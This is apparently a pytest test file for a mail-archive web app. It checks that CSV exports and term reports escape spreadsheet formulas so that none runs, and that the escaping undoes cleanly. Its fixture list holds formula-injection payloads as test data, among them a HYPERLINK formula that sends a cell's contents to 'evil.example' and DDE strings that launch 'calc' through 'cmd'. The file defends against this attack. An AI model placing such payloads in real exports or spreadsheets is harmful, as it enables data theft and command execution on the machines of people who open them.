"""Tables that leave the reading room hold no cell that a spreadsheet runs, and lose nothing."""

from __future__ import annotations

import csv
import io
import json
import re
from base64 import b64encode
from collections.abc import Iterator
from html import unescape
from typing import Any

import pytest
from starlette.testclient import TestClient

from letterbook.rules.cell_escape import unescape_cell
from tests.functional import program
from tests.functional.web import ORIGIN, api, form_token, page, room, send

SIGNS = "=+-@\t\r\0＝＋－＠"
"""What begins a formula, or a cell that is read as something else: research/reliability.md."""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"see")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|x",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "\n=1+1", ' "=1+1', "'=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", "a,=1+1", '","=1+1', "\u200b=1+1",
    "=1+1\r\n=2+2", "%0A-1+1", "|=1+1",
)  # fmt: skip
COLUMNS = ("from", "to", "subject", "attachments", "tags", "text")


def _word(text: str) -> str:
    return f"=?utf-8?B?{b64encode(text.encode()).decode()}?="


def _mail(number: int, formula: str) -> bytes:
    """Return a mail that says it as name, address, subject, file name and text."""
    local = re.sub(r"[^=+@-]", "", formula)[:1] or "="
    address = f"{local}cmd{number}@alder.example" if local != "@" else f'"@cmd{number}"@a.example'
    name = _word(formula)
    return (
        f"From: {name} <{address}>\nTo: {address}\nSubject: {name}\n"
        f"Date: Thu, 01 Mar 2018 10:{number:02d}:00 +0000\nMessage-ID: <f{number}@alder.example>\n"
        "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        "--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        f"{b64encode((formula + chr(10) + 'quay').encode()).decode()}\n"
        "--b\nContent-Type: application/octet-stream\n"
        f"Content-Disposition: attachment; filename={name}\n\nquay\n--b--\n"
    ).encode()


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """Yield somebody who reads a letterbook of formulas, two of which are tags too."""
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "mail").mkdir()
    for number, formula in enumerate(FORMULAS):
        (folder / "mail" / f"{number:02d}.eml").write_bytes(_mail(number, formula))
    book = program.make_book(folder / "book", folder / "mail")
    with room(book) as made:
        yield made


def table(content: bytes) -> list[dict[str, str]]:
    """Return the rows of a table; no cell of it begins a formula."""
    text = content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(tuple(SIGNS)), cell
            assert not cell.lstrip(" \n\"'\u200b").startswith(tuple(SIGNS)) or "'" in cell, cell
    for separator in ";\t":  # as a spreadsheet reads it where a comma is in numbers
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(cell.startswith(tuple(SIGNS)) for cell in cells), cells
    return rows


def exported(client: TestClient, format: str) -> bytes:
    """Return what the form of a page of results hands out."""
    html = page(client, "/search?q=quay&sort=oldest")
    fields = {"form_token": form_token(html), "q": "quay", "sort": "oldest", "format": format}
    answer = client.post("/search/export", data=fields, headers={"origin": ORIGIN})
    assert answer.status_code == 200, answer.text
    content: bytes = answer.content
    return content


def _people(people: list[dict[str, Any]]) -> str:
    named = (f"{p['name']} <{p['address']}>" if p.get("name") else p["address"] for p in people)
    return "; ".join(named)


def _said(told: dict[str, Any]) -> dict[str, str]:
    """Return what the JSON line of a message says, as the cells of a table have it."""
    mail = told["mail"]
    files = (part["filename"] for part in mail["parts"] if part.get("filename"))
    return {
        "from": _people(mail["from"]), "to": _people(mail["to"]), "subject": mail["subject"],
        "attachments": "; ".join(files), "tags": "; ".join(told["tags"]), "text": mail["text"],
    }  # fmt: skip


def test_no_cell_of_an_export_is_a_formula_and_each_says_what_its_json_line_says(
    client: TestClient,
) -> None:
    """Names, addresses, subjects, files, tags and texts: escaped, and the escape comes undone."""
    for formula in ("=cmd|tag", "@SUM(1)"):
        seen = "/search?q=quay"
        assert send(client, "/search/tag", seen, q="quay", tag=formula) == 303
    lines = [json.loads(line) for line in exported(client, "jsonl").splitlines()]
    raw = {told["id"]: _said(told) for told in lines}
    assert len(raw) == len(FORMULAS)
    for rows in (table(exported(client, "csv-text")), table(exported(client, "csv"))):
        assert {row["id"] for row in rows} == set(raw)
        for row in rows:
            for column in COLUMNS:
                if column in row:
                    assert unescape_cell(row[column]) == raw[row["id"]][column], column
    for column in ("from", "subject", "attachments", "text"):  # the mails do say such things
        begun = {said[column][:1] for said in raw.values()}
        assert len(begun & set(SIGNS)) >= 8, (column, begun)
    assert {said["to"][:1] for said in raw.values()} >= set("=+-")


def test_no_cell_of_a_report_on_a_list_is_a_formula_and_each_says_what_the_api_says(
    client: TestClient,
) -> None:
    """The terms, what they find, and lines that are none; the JSON of the API has them exact."""
    terms = "\n".join(one.replace("\n", " ") for one in FORMULAS if "\0" not in one)
    sent = {"form_token": form_token(page(client, "/terms")), "terms": terms}
    html = client.post("/terms", data=sent, headers={"origin": ORIGIN}).text
    fields = {
        name: unescape(value)
        for name, value in re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html)
    }
    answer = client.post("/terms", data={**fields, "as": "csv"}, headers={"origin": ORIGIN})
    assert answer.headers["content-type"] == "application/octet-stream"
    rows = table(answer.content)
    told = api(client, "POST", "/terms", {"terms": terms})
    exact = {
        (str(one["line"]), one["term"])
        for kind in ("terms", "not_read", "notices")
        for one in told[kind]
    }
    assert {(row["line"], unescape_cell(row["term"])) for row in rows} == exact
    assert len({term[:1] for _, term in exact} & set(SIGNS)) >= 6
    found = {str(one["line"]): one["query"] for one in told["terms"]}
    assert {row["line"]: unescape_cell(row["query"]) for row in rows if row["query"]} == found
    assert any(query.startswith(tuple(SIGNS)) for query in found.values())
